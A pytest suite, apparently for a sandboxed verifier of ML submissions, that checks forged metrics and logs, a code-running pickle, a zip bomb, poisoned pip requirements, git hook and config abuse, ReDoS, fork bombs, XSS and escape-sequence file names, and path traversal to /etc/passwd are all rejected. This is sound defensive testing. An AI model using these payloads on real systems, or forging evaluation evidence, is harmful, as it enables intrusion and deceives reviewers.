"""Hostile submissions against the whole acceptance: each is rejected with its reason code or gains nothing by its
attack, the host is unharmed, and the next submission gets the verdict that it deserves.

What these programs may do to the machine is held off by the sandbox, and is in test_sandbox.py.
"""

import importlib.util
import json
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pytest

from fuxian.errors import InputError, PlatformError
from fuxian.sandbox import MIB, run
from fuxian.verify import evidence
from fuxian.verify.commands import Allowance
from fuxian.verify.reasons import Reason
from fuxian.verify.verify import verify

TOY = Path(__file__).parents[1] / "verify" / "toy_submission.py"
ALLOWANCE = Allowance(seconds=20, memory=768 * MIB, cpus=1, pids=64, output=4 * MIB)


def _sandbox_works() -> str | None:
    try:
        run(["/bin/true"])
    except PlatformError as error:
        return str(error)
    return None


BROKEN = _sandbox_works()
pytestmark = pytest.mark.skipif(BROKEN is not None, reason=f"no sandbox here: {BROKEN}")


@pytest.fixture(scope="session")
def toy(tmp_path_factory):
    spec = importlib.util.spec_from_file_location(TOY.stem, TOY)
    module = importlib.util.module_from_spec(spec)
    sys.modules[spec.name] = module
    spec.loader.exec_module(module)
    return module.write_toy(tmp_path_factory.mktemp("toy") / "toy")


@pytest.fixture
def folder(toy, tmp_path):
    shutil.copytree(toy, tmp_path / "toy")
    return tmp_path / "toy"


@pytest.fixture
def verified(folder, tmp_path, monkeypatch):
    monkeypatch.setenv("FUXIAN_CONFIG", str(tmp_path / "keys"))

    def go(**options):
        done = verify(str(folder), tmp_path / "results", allowance=ALLOWANCE, **options)
        # Whatever it was, there is evidence of it, and it holds.
        assert evidence.check(done.evidence, None).wrong == ()
        json.dumps(done.as_dict(), allow_nan=False)
        return done

    return go


def replace(file, old, new):
    text = file.read_text(encoding="utf-8")
    assert old in text
    file.write_text(text.replace(old, new), encoding="utf-8")


def at_start(program, code):
    """Puts code first in one of the submission's programs."""
    program.write_text(program.read_text(encoding="utf-8") + f"\n{code}\n", encoding="utf-8")


@pytest.fixture
def short(folder):
    """Evaluation alone: no training to replay, no chain."""
    lines = (folder / "fuxian.toml").read_text(encoding="utf-8").splitlines(keepends=True)
    others = ("train = ", "predict = ", "export = ", "infer = ")
    kept = [line for line in lines if not line.startswith(others)]
    (folder / "fuxian.toml").write_text("".join(kept), encoding="utf-8")
    return folder


FORGED = {"runs": [{"seed": 3, "value": 1.0, "examples": [1.0] * 2000}]}
BAD_WEIGHTS = {"w": np.zeros((2, 3)), "b": np.zeros(3)}


def test_a_forged_measurements_file_in_the_folder_is_not_read(folder, verified):
    np.savez(folder / "weights/model.npz", **BAD_WEIGHTS)
    (folder / "measurements.json").write_text(json.dumps(FORGED))
    replace(
        folder / "fuxian.toml", 'tools/eval.py", "--weights={checkpoint}", "--out={out}"', 'tools/eval.py"'
    )
    # An evaluation that writes nothing, in the hope that what lies there already is taken.
    (folder / "tools/eval.py").write_text("# Licensed under the Apache License, Version 2.0\n")
    done = verified()
    assert (done.verdict, done.reason) == ("rejected", Reason.METRIC_MISSING)


def test_a_stated_figure_does_not_count_beside_its_examples(folder, verified):
    np.savez(folder / "weights/model.npz", **BAD_WEIGHTS)
    replace(folder / "tools/eval.py", '"value": right.mean()', '"value": 0.99')
    replace(folder / "tools/eval.py", "{right.mean():.4f}", "0.9900")
    done = verified()
    assert (done.verdict, done.reason) == ("rejected", Reason.METRIC_SHORT)
    assert done.as_dict()["measured"]["stated"] == [0.99]
    assert done.as_dict()["measured"]["value"] < 0.5


@pytest.mark.parametrize(
    ("figures", "reason"),
    [
        ('"value": float("nan"), "examples": None', Reason.METRIC_INVALID),
        ('"value": 1e308, "examples": [1e308] * 3', Reason.METRIC_INVALID),
        ('"value": 5.0, "examples": [5.0] * 100', Reason.METRIC_INVALID),
        ('"value": 0.99, "examples": [float("inf"), -float("inf")]', Reason.METRIC_INVALID),
        ('"value": 0.99, "examples": []', Reason.METRIC_MISSING),
        ('"value": "0.99", "examples": None', Reason.METRIC_MISSING),
        ('"value": 0.99, "examples": None', Reason.UNDECIDED),
    ],
)
def test_figures_that_cannot_be(folder, verified, figures, reason):
    replace(folder / "tools/eval.py", '"value": right.mean(), "examples": right.tolist()', figures)
    done = verified()
    assert done.reason is reason
    assert done.verdict != "accepted"


def test_measurements_that_are_no_file_of_figures(folder, verified):
    replace(folder / "tools/eval.py", '(given.out / "measurements.json").write_text(', "str(")
    at_start(folder / "tools/eval.py", '(given.out / "measurements.json").symlink_to("/etc/passwd")')
    assert verified().reason is Reason.METRIC_MISSING


def test_a_made_up_log_is_found(folder, verified):
    rows = [
        {"step": step, "loss": 2.0 / step, "reader_cost": 0.001, "batch_cost": 0.01, "ips": 6400.0}
        for step in range(1, 41)
    ]
    rows.append({"step": 40, "eval": {"accuracy": 0.93}})
    (folder / "logs/log.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    done = verified()
    assert (done.verdict, done.reason) == ("rejected", Reason.REPLAY_MISMATCH)


def test_a_training_that_only_copies_its_log_finds_none(folder, verified):
    lines = (folder / "logs/log.jsonl").read_text().replace('"loss": 1.', '"loss": 2.')
    (folder / "logs/log.jsonl").write_text(lines)
    (folder / "tools/train.py").write_text(
        "# Licensed under the Apache License, Version 2.0\n"
        "import shutil\nfrom blobs import options\n"
        'shutil.copy("logs/log.jsonl", options().out / "log.jsonl")\n'
    )
    done = verified()
    assert (done.verdict, done.reason) == ("rejected", Reason.CRASH)
    assert done.steps[-1].name == "replay"


def test_noise_does_not_widen_the_tolerance_until_any_log_fits(folder, verified):
    replace(
        folder / "tools/train.py", '"loss": loss,', '"loss": loss * np.random.default_rng().uniform(0.1, 2),'
    )
    done = verified()
    assert (done.verdict, done.reason) == ("inconclusive", Reason.REPLAY_UNSTABLE)


def test_a_pickle_of_weights_is_never_opened(folder, verified, tmp_path):
    witness = tmp_path / "WITNESS"
    pickle = b"cposix\nsystem\n(S'touch %s'\ntR." % str(witness).encode()
    (folder / "weights/more.pkl").write_bytes(pickle)
    (folder / "weights/best.pdparams").write_bytes(pickle)
    done = verified()
    assert (done.verdict, done.reason, done.commands) == ("rejected", Reason.UNSAFE, [])
    assert not witness.exists()


def test_a_zip_bomb_of_weights_is_refused(folder, verified):
    with (
        zipfile.ZipFile(folder / "weights/model.npz", "w", zipfile.ZIP_DEFLATED, compresslevel=1) as bomb,
        bomb.open("w.npy", "w", force_zip64=True) as member,
    ):
        for _ in range(1100):
            member.write(bytes(1 << 20))
    done = verified()
    assert done.reason is Reason.UNSAFE
    assert "unfolds" in done.detail


@pytest.mark.parametrize(
    "line", ["-e .", "evil @ https://example.org/evil-1.0.tar.gz", "--extra-index-url=x"]
)
def test_poisoned_requirements_are_not_installed(folder, verified, tmp_path, line):
    witness = tmp_path / "WITNESS"
    (folder / "setup.py").write_text(
        f"# Licensed under the Apache License, Version 2.0\nopen({str(witness)!r}, 'w')\n"
    )
    (folder / "requirements.txt").write_text(f"paddlepaddle>=3.0\n{line}\n")
    done = verified()
    assert (done.verdict, done.reason, done.commands) == ("rejected", Reason.ENV, [])
    assert not witness.exists()


def test_files_that_python_runs_at_its_start_are_not_run_outside(short, verified, tmp_path):
    witness = tmp_path / "WITNESS"
    header = "# Licensed under the Apache License, Version 2.0\n"
    evil = f"{header}try:\n    open({str(witness)!r}, 'w')\nexcept OSError:\n    pass\n"
    for name in (
        "sitecustomize.py",
        "usercustomize.py",
        "conftest.py",
        "fuxian.py",
        "json.py",
        "tools/random.py",
    ):
        (short / name).write_text(evil)
    done = verified()
    # Its own modules are its own affair: it breaks its own programs at most.
    assert done.verdict in ("accepted", "rejected")
    assert not witness.exists()


def test_the_checker_and_the_interpreter_cannot_be_overwritten(short, verified):
    import fuxian

    before = {path: path.stat().st_mtime_ns for path in Path(fuxian.__file__).parent.rglob("*.py")}
    at_start(
        short / "tools/eval.py",
        "import fuxian, pathlib, sys\n"
        "for target in [fuxian.__file__, sys.executable, np.__file__, fuxian.__path__[0] + '/verify/stop_after.py']:\n"
        "    try:\n"
        "        pathlib.Path(target).open('r+b').close()\n"
        "        raise SystemExit('ESCAPED ' + target)\n"
        "    except OSError:\n"
        "        pass\n"
        "pathlib.Path('tools/train.py').write_text('raise SystemExit(9)')\n"
        "pathlib.Path('weights/model.npz').unlink()\n",
    )
    done = verified()
    # What it changed in its own copy is gone with the command.
    assert (done.verdict, done.reason) == ("accepted", Reason.OK)
    assert {path: path.stat().st_mtime_ns for path in before} == before


def test_other_submissions_and_labels_cannot_be_read(short, verified, tmp_path):
    secret = tmp_path / "labels.txt"
    secret.write_text("HUNTER2")
    secret.chmod(0o644)
    at_start(
        short / "tools/eval.py",
        f"import pathlib\nfor place in ({str(secret)!r}, {str(short)!r}, '/root', '/home', '/work/main', '/data'):\n"
        "    if pathlib.Path(place).exists() and place not in ('/work',):\n"
        "        print('ESCAPED', place)\n",
    )
    done = verified()
    said = (done.evidence.parent / "logs/evaluate/stdout.txt").read_text()
    assert "HUNTER2" not in said
    assert f"ESCAPED {secret}" not in said
    assert f"ESCAPED {short}" not in said


def test_a_crash_says_where_in_the_submission(folder, verified):
    at_start(folder / "tools/eval.py", "import json\nassert not json.dumps(1)")
    done = verified()
    assert (done.verdict, done.reason) == ("rejected", Reason.CRASH)
    assert re.search(r"It said: AssertionError, in tools/eval\.py, line \d+", done.detail)


def test_output_that_steers_a_terminal_or_is_no_text(folder, verified):
    at_start(
        folder / "tools/eval.py",
        "import sys\n"
        r"sys.stdout.buffer.write(b'\x1b]0;title\x07\x1b[2J\xff\xfe\x00 <script>alert(1)</script> \xe2\x80\xae\n')"
        "\nraise SystemExit(3)",
    )
    done = verified()
    assert (done.verdict, done.reason) == ("rejected", Reason.CRASH)
    shown = done.as_dict()["commands"][0]["stdout"]
    assert all(c.isprintable() or c in "\n\t" for c in shown)
    # Text stays text: who puts it into a page escapes it.
    assert "<script>" in shown
    assert b"\x1b[2J" in (done.evidence.parent / "logs/evaluate/stdout.txt").read_bytes()


@pytest.mark.parametrize(
    ("code", "reason"),
    [
        ("while True:\n    pass", Reason.TIMEOUT),
        ("a = [bytearray(1 << 26) for _ in range(99)]\nprint(len(a))", Reason.OOM),
        ("import sys\nwhile True:\n    sys.stdout.write('x' * 65536)", Reason.OUTPUT),
        ("import os\nfor _ in range(200):\n    os.fork() or __import__('time').sleep(5)", Reason.PIDS),
        (
            "import os\nos.posix_fallocate(os.open('/out/big', os.O_CREAT | os.O_RDWR), 0, 600 << 20)",
            Reason.DISK,
        ),
        ("import socket\nsocket.create_connection(('192.0.2.1', 80), 3)", Reason.NETWORK),
        ("import os, signal\nos.kill(os.getpid(), signal.SIGSEGV)", Reason.CRASH),
    ],
    ids=["loop", "memory", "flood", "forks", "disk", "network", "crash"],
)
def test_each_way_to_fail_has_its_reason(folder, verified, code, reason):
    if reason is Reason.TIMEOUT:
        replace(folder / "fuxian.toml", "minutes = 1 }", "minutes = 0.05 }")
    at_start(folder / "tools/eval.py", code)
    done = verified()
    assert done.verdict == "rejected"
    assert done.reason is reason
    assert done.steps[-1].name == "evaluate"


def test_a_pattern_that_never_ends_is_ended(folder, verified):
    text = (folder / "fuxian.toml").read_text()
    (folder / "fuxian.toml").write_text(
        text.replace('file = "measurements.json"', "pattern = '(?P<x>(a+)+)$'")
    )
    at_start(folder / "tools/eval.py", "print('a' * 1900 + 'b')")
    done = verified()
    assert (done.verdict, done.reason) == ("rejected", Reason.METRIC_MISSING)


@pytest.mark.parametrize("name", ["<img src=x onerror=alert(1)>.txt", "a\x1b[31m.py", "x" * 250 + ".txt"])
def test_names_of_files_that_attack_who_lists_them(short, verified, name):
    (short / name).write_text("# Licensed under the Apache License, Version 2.0\n")
    done = verified()
    if name.startswith("<"):
        # A name may hold HTML; nothing here writes pages.
        assert done.verdict == "accepted"
    else:
        assert (done.verdict, done.reason, done.commands) == ("rejected", Reason.UNSAFE, [])


def test_a_git_repository_that_names_programs_runs_none(short, verified, tmp_path):
    witness = tmp_path / "WITNESS"
    evil = tmp_path / "evil.sh"
    evil.write_text(f"#!/bin/sh\ntouch {witness}\n")
    evil.chmod(0o755)
    git = ["git", "-c", "user.name=a", "-c", "user.email=a@b", "-C", str(short)]
    for command in (["init", "-q"], ["add", "-A"], ["commit", "-qm", "all"]):
        subprocess.run([*git, *command], check=True)
    for setting in ("core.fsmonitor", "uploadpack.packObjectsHook", "core.sshCommand", "filter.x.smudge"):
        subprocess.run([*git, "config", setting, str(evil)], check=True)
    (short / ".git/hooks").mkdir(exist_ok=True)
    for hook in ("post-checkout", "reference-transaction", "post-update"):
        shutil.copy(evil, short / ".git/hooks" / hook)
    (short / "fuxian.toml").unlink()  # not committed: nothing changes
    assert verified().verdict == "accepted"
    assert not witness.exists()


def test_a_manifest_that_leads_out_is_one_sentence(folder, verified):
    replace(folder / "fuxian.toml", '"weights/model.npz"', '"../../../../etc/passwd"')
    with pytest.raises(InputError, match="leads out"):
        verified()


def test_after_all_these_a_good_submission_is_accepted(short, verified):
    assert verified().verdict == "accepted"
